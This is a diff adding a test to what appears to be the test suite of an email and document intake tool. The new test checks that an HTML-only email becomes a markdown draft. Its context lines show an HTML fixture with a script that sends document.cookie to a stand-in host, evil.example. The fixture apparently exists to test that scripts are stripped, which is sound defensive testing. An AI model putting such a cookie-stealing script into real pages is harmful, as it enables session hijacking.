@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
+from pathlib import Path
+
 from intake.convert import convert_document
 from intake.convert.htmldoc import html_to_markdown
 from intake.core.models import FileType
 from intake.mail.parse import parse_message
+from tests.conftest import CliResult
 
 PAGE = """<html><head><title>t</title><style>p {color: red}</style>
 <script>document.location = "https://evil.example/?" + document.cookie</script></head><body>
@@ -43,3 +47,34 @@ def test_html_only_body_becomes_readable_text() -> None:
     raw = (b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: text/html; charset=utf-8\r\n\r\n" + PAGE.encode())
     assert parse_message(raw).text.startswith("# Night shifts\n\nSleep is **not** optional")
+
+
+def test_an_article_written_in_the_mails_html_becomes_a_draft_like_an_html_file(
+        tmp_path: Path, make_config: Callable[..., Path],
+        cli: Callable[..., CliResult]) -> None:
+    """No text part, only HTML: its headings, lists and links are the draft's, not
+    escaped text (\\# Heading, [link](…)), and its first heading is the title."""
+    from email.message import EmailMessage
+
+    from intake.ledger.store import read_draft
+
+    msg = EmailMessage()
+    msg["From"] = "Zoë Okafor <zoe@uni.example.org>"
+    msg["To"] = "submissions@journal.example.org"
+    msg["Subject"] = "Guest post"
+    msg["Message-ID"] = "<htmlonly@uni>"
+    msg.set_content("<h1>Jaundice in neonates</h1><p>Most newborn jaundice is "
+                    "<b>harmless</b>; see <a href=\"https://example.org/nice\">the "
+                    "guidance</a>.</p><ul><li>Check the colour</li><li>Feed often</li></ul>"
+                    + "<p>More words on the ward. </p>" * 80, subtype="html")
+    config = make_config()
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "a.eml").write_bytes(msg.as_bytes())
+    assert cli("--config", config, "ingest", folder).code == 0
+    front, body = read_draft(config.parent / "var" / "drafts" / "JPMS-2026-0001" / "draft.md")
+    assert front["title"] == "Jaundice in neonates"
+    assert "**harmless**" in body and "[the guidance](https://example.org/nice)" in body
+    assert "- Check the colour" in body and "\\#" not in body and "\\[" not in body
+    (ack,) = (config.parent / "sent").glob("*.eml")
+    assert "Jaundice in neonates" in ack.read_text(encoding="utf-8", errors="replace")
